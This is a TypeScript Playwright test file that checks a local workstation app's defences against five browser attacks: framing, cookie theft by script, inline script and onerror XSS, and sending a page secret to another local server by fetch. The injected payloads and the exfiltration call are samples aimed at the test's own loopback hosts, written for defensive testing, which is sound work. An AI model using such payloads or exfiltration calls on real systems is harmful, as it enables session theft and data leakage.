import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { BrowserContext } from '@playwright/test'
import { launchBrowser } from '../../support/browser.ts'
import { type Attack, repelled, succeeded } from '../attack.ts'
import type { Target } from '../run/target.ts'
import { loopbackTarget, SECRET } from './loopback-host.ts'

const headers = 'src-main/app/security/headers.ts'
const loopback = 'src-main/app/loopback.ts'

/** A real browser in which the person at the desk has opened the workstation. */
async function desk(target: Target, html = `<title>CareCode</title>${SECRET}`) {
  const host = await loopbackTarget(target, html)
  const browser = await launchBrowser()
  target.atEnd(() => browser.close())
  const context: BrowserContext = await browser.newContext()
  const page = await context.newPage()
  await page.goto(host.latest().href)
  return { host, context, page }
}

/** Another program on the same machine with a page of its own; keeps the addresses it was asked for. */
async function neighbour(target: Target, html: string) {
  const asked: string[] = []
  const server = createServer((req, res) => {
    asked.push(req.url ?? '')
    res.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end(html)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  target.atEnd(() => server.close())
  return { asked, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/` }
}

export const attacks: readonly Attack[] = [
  {
    name: 'framed',
    what: 'shows the workstation inside a page of another program of the machine, under buttons of its own',
    code: 'not shown',
    defence: [
      {
        file: 'src-main/app/security/request-guard.ts',
        find: "return site === 'cross-site' || site === 'same-site' ? 'another site' : null",
        replace: 'return null',
      },
      { file: headers, find: `"frame-ancestors 'none'",`, replace: '' },
    ],
    async run(target) {
      const { host, context } = await desk(target)
      const { url } = await neighbour(target, `<iframe src="http://127.0.0.1:${host.port}/"></iframe>`)
      const page = await context.newPage()
      await page.goto(url)
      const frame = page.frames()[1]
      const text =
        (await frame
          ?.locator('body')
          .textContent({ timeout: 5_000 })
          .catch(() => '')) ?? ''
      return text.includes(SECRET) ? succeeded('the board stands in its page') : repelled('not shown')
    },
  },
  {
    name: 'cookie-by-script',
    what: 'reads the session out of the browser by a script in the page',
    code: 'nothing to read',
    defence: [{ file: loopback, find: '; HttpOnly; SameSite=Strict', replace: '; SameSite=Strict' }],
    async run(target) {
      const { page } = await desk(target)
      const read = await page.evaluate(() => document.cookie)
      return read === '' ? repelled('nothing to read') : succeeded(`reads ${read.split('=')[0]}`)
    },
  },
  {
    name: 'inline-script',
    what: 'gets a script into the page’s HTML',
    code: 'not run',
    defence: [{ file: headers, find: `"script-src 'self'"`, replace: `"script-src 'self' 'unsafe-inline'"` }],
    async run(target) {
      const { page } = await desk(target, '<title>CareCode</title><script>document.title = "stolen"</script>')
      return (await page.title()) === 'stolen' ? succeeded('its script runs') : repelled('not run')
    },
  },
  {
    name: 'inline-handler',
    what: 'gets an event handler into the page’s HTML (a picture that cannot be loaded)',
    code: 'not run',
    defence: [{ file: headers, find: `"script-src 'self'"`, replace: `"script-src 'self' 'unsafe-inline'"` }],
    async run(target) {
      const { page } = await desk(target)
      await page.evaluate(() => {
        document.body.innerHTML = '<img src="/nothing" onerror="document.title = \'stolen\'">'
      })
      await page.waitForTimeout(300)
      return (await page.title()) === 'stolen' ? succeeded('its handler runs') : repelled('not run')
    },
  },
  {
    name: 'carry-off',
    what: 'sends what a script in the page has read to a server of its own',
    code: 'not sent',
    defence: [{ file: headers, find: `"connect-src 'self'"`, replace: '"connect-src *"' }],
    async run(target) {
      const { page } = await desk(target)
      const { asked, url } = await neighbour(target, '')
      const send = (to: string) =>
        fetch(to).then(
          () => undefined,
          () => undefined,
        )
      await page.evaluate(send, `${url}?${encodeURIComponent(SECRET)}`)
      return asked.some((path) => path.startsWith('/?')) ? succeeded('its server has it') : repelled('not sent')
    },
  },
]
